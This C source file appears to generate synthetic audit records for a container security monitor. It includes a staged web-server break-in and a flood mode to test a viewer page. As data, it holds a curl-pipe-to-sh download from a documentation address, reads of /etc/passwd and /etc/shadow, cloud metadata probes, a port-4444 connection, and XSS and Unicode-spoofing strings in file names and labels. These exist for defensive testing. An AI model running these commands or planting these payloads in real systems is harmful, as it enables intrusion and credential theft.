/* SPDX-License-Identifier: Apache-2.0 */
/* made DIR story | made DIR flood RECORDS: a database of one ended container in DIR, by the node's own code.
 * The story is a web server that is broken into, with names that a page must not believe; the flood is made to
 * overflow every list of a page. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <sys/socket.h>
#include "sidecar/common/event_table.h"
#include "sidecar/common/util.h"
#include "sidecar/node/counters.h"
#include "sidecar/node/crypt.h"
#include "sidecar/node/intake.h"

#define GENERATION 1000
#define BOOT_NS 5000000000000ull
#define DAY_S 86400ull
#define VERSION 0x51a7c0deu
#define MS 1000000ull

static uint64_t begin_ns; /* yesterday, 02:43 UTC: retention has no reason */

static struct store store;
static struct life *life;
static struct intake in = {.meta = true};
static struct rv_counters counters = {.armed = 1};
static uint64_t seq, at_ms;

static union {
	struct rv_head head;
	struct rv_armed armed;
	struct rv_exec exec;
	struct rv_exit exit;
	struct rv_open open;
	struct rv_connect socket;
	struct rv_fork fork;
	struct rv_enter enter;
	struct rv_repeat repeat;
	struct rv_capability capability;
	struct rv_checkpoint checkpoint;
	uint8_t bytes[1 << 20];
} rec;
static size_t extra; /* bytes behind the strings */

/* Who acts from here on. */
static struct {
	uint32_t pid, ppid, ns_pid, uid;
	uint64_t start_ms, exec_seq;
	const char *comm;
} who;

static void must(int r, const char *what)
{
	if (r >= 0)
		return;
	fprintf(stderr, "made: %s: %s\n", what, strerror(-r));
	exit(1);
}

static void begin(unsigned kind)
{
	memset(&rec, 0, sizeof(struct rv_checkpoint));
	extra = 0;
	rec.head = (struct rv_head){.kind = (uint16_t)kind, .generation = GENERATION, .cgroup_id = 1,
				    .boot_ns = BOOT_NS + at_ms * MS, .tai_ns = begin_ns + at_ms * MS,
				    .exec_seq = who.exec_seq, .start_ns = BOOT_NS + who.start_ms * MS,
				    .pid = who.pid, .tid = who.pid, .ppid = who.ppid, .ns_pid = who.ns_pid,
				    .ns_tid = who.ns_pid, .uid = who.uid, .gid = who.uid, .euid = who.uid,
				    .egid = who.uid, .loginuid = RV_ID_NONE, .sessionid = RV_ID_NONE,
				    .verdict = RV_VERDICT_ALLOWED, .phase = RV_PHASE_ARMED,
				    .policy_version = VERSION};
	memcpy(rec.head.comm, who.comm, strnlen(who.comm, sizeof(rec.head.comm) - 1));
}

static void commit(void)
{
	must(intake_commit(&in, &store, life), "commit");
}

/* The strings, in the table's order; those after the last given are empty. */
static void end(unsigned n, const char *const *strings, const size_t *lens)
{
	const struct event_kind *k = event_kind(rec.head.kind);
	_free_ uint8_t *block = extra ? malloc(extra) : NULL;
	size_t at = k->size;
	unsigned i = 0;
	bool bulk;

	if (block)
		memcpy(block, rec.bytes + k->size, extra);
	for (unsigned f = 0; f < k->fields_n; f++) {
		if (!k->fields[f].string || i >= n)
			continue;
		uint32_t len = (uint32_t)(lens && lens[i] ? lens[i] : strlen(strings[i]));

		memcpy(rec.bytes + k->fields[f].offset, &len, sizeof(len));
		memcpy(rec.bytes + at, strings[i++], len);
		at += len;
	}
	if (block)
		memcpy(rec.bytes + at, block, extra);
	at += extra;
	rec.head.seq = seq;
	rec.head.len = (uint32_t)at;
	memset(rec.bytes + at, 0, 8);
	counters.taken[rec.head.kind]++;
	if (seq > 0)
		counters.issued = seq;
	seq++;
	must(intake_add(&in, rec.bytes, (at + 7) & ~7ul, &bulk), "record");
	if (in.len > 1 << 20)
		commit();
}

static void end_path(const char *path)
{
	end(1, &path, NULL);
}

static void denied(unsigned rule, int error)
{
	rec.head.verdict = RV_VERDICT_DENIED;
	rec.head.rule = rule;
	rec.head.error = error;
}

static void lose(unsigned kind, unsigned n)
{
	counters.taken[kind] += n;
	counters.lost[kind] += n;
	seq += n;
	counters.issued = seq - 1;
}

static void exec(const char *path, const char *const *argv)
{
	size_t size = event_kind(RV_KIND_EXEC)->size;
	const char *strings[] = {path, path};

	begin(RV_KIND_EXEC);
	for (; argv[rec.exec.argc]; rec.exec.argc++) {
		size_t len = strlen(argv[rec.exec.argc]) + 1;

		memcpy(rec.bytes + size + extra, argv[rec.exec.argc], len);
		extra += len;
	}
	rec.exec.args_len = rec.exec.args_stored = (uint32_t)extra;
	rec.head.hook = RV_HOOK_EXEC_DONE;
	who.exec_seq = seq;
	end(2, strings, NULL);
}
#define EXEC(path, ...) exec(path, (const char *const[]){__VA_ARGS__, NULL})

static uint32_t fork_as(uint32_t ns_pid)
{
	uint32_t pid = 41200 + ns_pid;

	begin(RV_KIND_FORK);
	rec.fork.child_pid = rec.fork.child_tid = pid;
	rec.fork.child_ns_pid = ns_pid;
	end(0, NULL, NULL);
	return pid;
}

static void be(uint32_t ns_pid, uint32_t parent, uint64_t start_ms, const char *comm, uint32_t uid)
{
	who.pid = 41200 + ns_pid;
	who.ns_pid = ns_pid;
	who.ppid = 41200 + parent;
	who.start_ms = start_ms;
	who.comm = comm;
	who.uid = uid;
}

static void leave(int code, unsigned signal)
{
	begin(RV_KIND_EXIT);
	rec.exit.code = code;
	rec.exit.signal = signal;
	end(0, NULL, NULL);
}

static void open_as(const char *path, unsigned access)
{
	begin(RV_KIND_OPEN);
	rec.open.access = access;
	end_path(path);
}

static void address(struct rv_address *a, const char *text, uint32_t port)
{
	a->family = strchr(text, ':') ? AF_INET6 : AF_INET;
	a->port = port;
	inet_pton((int)a->family, text, a->addr);
}

static void socket_to(unsigned kind, const char *text, uint32_t port)
{
	begin(kind);
	address(kind == RV_KIND_BIND || kind == RV_KIND_LISTEN ? &rec.socket.local : &rec.socket.peer, text,
		port);
	rec.socket.family = strchr(text, ':') ? AF_INET6 : AF_INET;
	rec.socket.type = SOCK_STREAM;
}

static void arm(const char *comm)
{
	be(1, 0, 0, comm, 0);
	who.ppid = 41190;
	begin(RV_KIND_ARMED);
	rec.armed.record = ~0ull;
	strcpy(rec.armed.policy_name.s, "web");
	memset(rec.armed.policy_sha256.b, 0xc0, sizeof(rec.armed.policy_sha256.b));
	rec.armed.policy_flags = 1;
	end(0, NULL, NULL);
}

static void checkpoint(void)
{
	begin(RV_KIND_CHECKPOINT);
	counters.taken[RV_KIND_CHECKPOINT]++;
	counters.issued = seq;
	rec.checkpoint.counters = counters;
	counters.taken[RV_KIND_CHECKPOINT]--;
	end(0, NULL, NULL);
}

static void close_record(void)
{
	struct rv_state state = {.counters = counters, .generation = GENERATION, .cgroup_id = 1};
	struct rv_checkpoint close;
	bool bulk;

	event_make_close(&close, &state, "reeve-agent");
	close.head.boot_ns = BOOT_NS + at_ms * MS;
	close.head.tai_ns = begin_ns + at_ms * MS;
	must(intake_add(&in, (const uint8_t *)&close, sizeof(close), &bulk), "close");
	life_count(life, &close.counters);
	life->closed = life->ended = in.meta = true;
	life->ended_wall_ns = begin_ns + at_ms * MS;
	commit();
}

/* What its rules are called. */
static void name_rules(void)
{
	static const char names[] =
	    "{\"policy\":\"web\",\"line\":5,\"reason\":\"no <b>passwords</b>\"}\n"
	    "{\"policy\":\"web\",\"line\":6,\"reason\":\"nothing runs from /tmp\"}\n"
	    "{\"policy\":\"web\",\"line\":8,\"reason\":\"no metadata\"}\n"
	    "{\"policy\":\"host\",\"line\":3}\n";

	must(store_begin(&store, life), "begin");
	must(store_put_names(life, VERSION, names), "names");
	must(store_commit(&store, life), "names");
}

/* What the container's users do all day. */
static void serve(unsigned n, uint64_t step_ms)
{
	char path[128], client[64];

	for (unsigned i = 0; i < n; i++) {
		at_ms += step_ms + i * 7 % 40;
		be(7 + i % 2, 1, 900, "nginx", 33);
		snprintf(client, sizeof(client), "203.0.113.%u", 10 + i * i % 90);
		socket_to(RV_KIND_ACCEPT, client, 1024 + i * 977 % 60000);
		address(&rec.socket.local, "10.0.3.5", 80);
		end(0, NULL, NULL);
		snprintf(path, sizeof(path), "/srv/www/assets/%u/page%u.html", i % 12, i % 61);
		open_as(path, RV_ACCESS_READ);
		if (i % 5 == 0) {
			open_as("/var/log/nginx/access.log", RV_ACCESS_WRITE | RV_ACCESS_APPEND);
			begin(RV_KIND_REPEAT);
			rec.repeat.of_seq = seq - 1;
			rec.repeat.count = 40;
			rec.repeat.of_kind = RV_KIND_OPEN;
			rec.repeat.first_ns = rec.repeat.last_ns = rec.head.boot_ns;
			counters.merged[counters_merge(RV_KIND_OPEN)] += 40;
			end(0, NULL, NULL);
		}
		if (i % 60 == 0)
			checkpoint();
	}
}

/* Each an attempt at the page. */
static void hostile(void)
{
	static const char *const names[] = {
	    "/srv/up/</script><script>document.title='OWNED'</script>",
	    "/srv/up/<img src=x onerror=\"document.title='OWNED'\">.php",
	    "/srv/up/\"'><svg onload=document.title='OWNED'>",
	    "/srv/up/--><style>*{display:none}</style><!--",
	    "/srv/up/invoice\xe2\x80\xae" "fdp.exe", /* reads invoiceexe.pdf */
	    "/srv/up/not \xff\xfe utf-8 \xc3",
	    "/srv/up/two\nlines\tand \x1b[31mred\x1b[0m",
	    "/srv/up/zero\xe2\x80\x8bwidth",
	    "/srv/up/\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d/\xd7\xa2\xd7\x95\xd7\x9c\xd7\x9d.txt",
	    "/srv/up/&lt;not&gt;&amp;an entity;",
	    "/srv/up/data:text/html,<script>",
	};

	for (unsigned i = 0; i < ARRAY_SIZE(names); i++) {
		at_ms += 3;
		open_as(names[i], RV_ACCESS_WRITE | RV_ACCESS_CREATE);
	}
}

static void break_in(void)
{
	static char huge[40000];
	uint64_t began;

	memset(huge, 'A', sizeof(huge) - 1);
	be(7, 1, 900, "nginx", 33);
	at_ms += 400;
	hostile();
	fork_as(31);
	be(31, 7, at_ms += 2, "sh", 33);
	EXEC("/bin/sh", "sh", "-c", "curl -s http://198.51.100.23/x.sh | sh");
	fork_as(32);
	fork_as(33);
	be(32, 31, at_ms += 3, "curl", 33);
	EXEC("/usr/bin/curl", "curl", "-s", "http://198.51.100.23/x.sh");
	socket_to(RV_KIND_CONNECT, "198.51.100.23", 80);
	end(0, NULL, NULL);
	at_ms += 190;
	leave(0, 0);
	began = at_ms - 150;
	be(33, 31, began, "sh", 33);
	EXEC("/bin/sh", "sh");
	open_as("/tmp/.x", RV_ACCESS_WRITE | RV_ACCESS_CREATE);
	begin(RV_KIND_CHMOD);
	end_path("/tmp/.x");
	for (unsigned i = 0; i < 3; i++) {
		at_ms += 1100;
		fork_as(34 + i);
		be(34 + i, 33, at_ms, "sh", 33);
		begin(RV_KIND_EXEC);
		rec.exec.args_state = RV_ARGS_CLAIMED;
		strcpy((char *)rec.bytes + event_kind(RV_KIND_EXEC)->size, "/tmp/.x");
		rec.exec.argc = 1;
		extra = rec.exec.args_len = rec.exec.args_stored = 8;
		denied(2, 13);
		end(2, (const char *const[]){"/tmp/.x", "/tmp/.x"}, NULL);
		leave(126, 0);
		be(33, 31, began, "sh", 33);
	}
	fork_as(40);
	be(40, 33, at_ms += 20, "python3", 33);
	EXEC("/usr/bin/python3.11", "python3", "-c",
	     "import os\nprint('</script><script>document.title=\"OWNED\"</script>')\n\x1b[2J",
	     "\xe2\x80\xae" "reversed", "it's \"quoted\"", "", huge);
	who.comm = "</td><h1>OWNED";
	open_as("/etc/passwd", RV_ACCESS_READ);
	begin(RV_KIND_OPEN);
	rec.open.access = RV_ACCESS_READ;
	denied(1, 13);
	end_path("/etc/shadow");
	at_ms += 35;
	for (unsigned i = 0; i < 5; i++, at_ms += 450) {
		socket_to(RV_KIND_CONNECT, "169.254.169.254", 80);
		denied(3, 1);
		end(0, NULL, NULL);
	}
	begin(RV_KIND_CAPABILITY);
	rec.capability.capability = 21;
	rec.head.verdict = RV_VERDICT_WOULD_DENY;
	rec.head.rule = 4;
	end(0, NULL, NULL);
	for (unsigned port = 6379; port < 6385; port++) {
		socket_to(RV_KIND_CONNECT, "10.0.3.17", port);
		end(0, NULL, NULL);
	}
	socket_to(RV_KIND_CONNECT, "2001:db8:7::23", 4444);
	end(0, NULL, NULL);
	open_as("/srv/up/\xe2\x81\xa6\xe2\x80\xae</code></th></tr></table>", RV_ACCESS_READ | RV_ACCESS_WRITE);
	at_ms += 2500;
	leave(0, 9);
}

static void look_in(void)
{
	at_ms += 60000;
	be(55, 0, at_ms, "runc:[2:INIT]", 0);
	begin(RV_KIND_ENTER);
	rec.enter.opid = who.pid;
	rec.enter.ons_pid = who.ns_pid;
	end(0, NULL, NULL);
	EXEC("/bin/sh", "sh", "-c", "ps aux; ls -la /tmp");
	fork_as(56);
	be(56, 55, at_ms += 5, "ps", 0);
	EXEC("/bin/ps", "ps", "aux");
	at_ms += 40;
	leave(0, 0);
	be(55, 0, at_ms - 45, "sh", 0);
	at_ms += 3;
	leave(0, 0);
}

static void story(void)
{
	arm("nginx");
	EXEC("/usr/sbin/nginx", "nginx", "-g", "daemon off;");
	commit();
	name_rules();
	for (unsigned i = 0; i < 14; i++) {
		char path[64];

		at_ms += 4;
		snprintf(path, sizeof(path), "/usr/lib/x86_64-linux-gnu/lib%u.so.1", i);
		open_as(path, RV_ACCESS_READ);
		begin(RV_KIND_MMAP);
		end_path(path);
	}
	open_as("/etc/nginx/nginx.conf", RV_ACCESS_READ);
	socket_to(RV_KIND_BIND, "0.0.0.0", 80);
	end(0, NULL, NULL);
	socket_to(RV_KIND_LISTEN, "0.0.0.0", 80);
	end(0, NULL, NULL);
	for (unsigned i = 7; i < 9; i++) {
		be(1, 0, 0, "nginx", 0);
		at_ms = 900;
		fork_as(i);
		be(i, 1, 900, "nginx", 0);
		begin(RV_KIND_SETUID);
		end(0, NULL, NULL);
	}
	serve(900, 600);
	break_in();
	serve(120, 500);
	lose(RV_KIND_OPEN, 12);
	look_in();
	serve(60, 700);
	for (unsigned i = 7; i < 9; i++) {
		be(i, 1, 900, "nginx", 33);
		leave(0, 0);
	}
	be(1, 0, 0, "nginx", 0);
	at_ms += 20;
	leave(0, 0);
	close_record();
}

/* More of everything than a page or a memory has room for. */
static void flood(uint64_t records)
{
	char path[600], fill[401];

	arm("flood");
	EXEC("/bin/flood", "flood");
	memset(fill, 'x', sizeof(fill));
	while (seq < records) {
		uint64_t i = seq * 2654435761u >> 3;
		unsigned what = (unsigned)(seq % 10);

		at_ms += seq % 3;
		be(1, 0, 0, "flood", 0);
		snprintf(path, sizeof(path), "/d%u/e%u/f%llu</script>%.*s", (unsigned)(i % 97),
			 (unsigned)(i % 1009), (unsigned long long)seq, (int)(seq % 400), fill);
		if (what < 4) {
			open_as(path, what ? RV_ACCESS_READ : RV_ACCESS_WRITE);
		} else if (what < 6) {
			begin(RV_KIND_OPEN);
			denied(1, 13);
			end_path(path);
		} else if (what < 8) {
			snprintf(path, 64, "10.%u.%u.%u", (unsigned)(i % 250), (unsigned)(i / 250 % 250),
				 (unsigned)(i / 62500 % 250));
			socket_to(RV_KIND_CONNECT, path, (uint32_t)(1 + i % 65000));
			end(0, NULL, NULL);
		} else if (what == 8) {
			fork_as((uint32_t)(2 + seq / 10 % 4000000));
		} else {
			be((uint32_t)(2 + seq / 10 % 4000000), 1, at_ms, "child", 0);
			EXEC("/bin/child", "child", path);
		}
	}
	close_record();
}

int main(int argc, char **argv)
{
	begin_ns = ((uint64_t)time(NULL) / DAY_S * DAY_S - DAY_S + (2 * 60 + 43) * 60) * 1000000000ull;

	struct meta_annotation labels[] = {
	    {(char *)"app", (char *)"web"},
	    {(char *)"note", (char *)"</dd></dl><script>document.title='OWNED'</script>"},
	    {(char *)"team\xe2\x80\xae", (char *)"\xe2\x80\xaetxet"},
	};
	struct meta meta = {.key = "0000000000000001", .id = "web-7d4b9c", .generation = GENERATION,
			    .name = "web</h1><script>document.title='OWNED'</script>", .policy = "web",
			    .cgroup_id = 1, .started_wall_ns = begin_ns - 180 * MS,
			    .cgroup = (char *)"/machine.slice/libpod-web-7d4b9c.scope", .runtime = (char *)"crun",
			    .image = (char *)"registry.example/shop/web:2.14", .pod = (char *)"shop-web-0",
			    .namespace = (char *)"shop", .labels = labels, .labels_n = ARRAY_SIZE(labels)};
	bool is_flood = argc == 4 && strcmp(argv[2], "flood") == 0;
	char seals[4096];

	if (!is_flood && (argc != 3 || strcmp(argv[2], "story") != 0)) {
		fprintf(stderr, "usage: made DIR story | made DIR flood RECORDS\n");
		return 2;
	}
	if (is_flood)
		strcpy(meta.id, "flood");
	life = life_new(&meta);
	snprintf(seals, sizeof(seals), "%s/../seal/containers", argv[1]);
	store_init(&store, argv[1], seals);
	must(crypt_init(), "random bytes");
	if (is_flood)
		flood(strtoull(argv[3], NULL, 10));
	else
		story();
	store_release(&store);
	intake_release(&in);
	return 0;
}
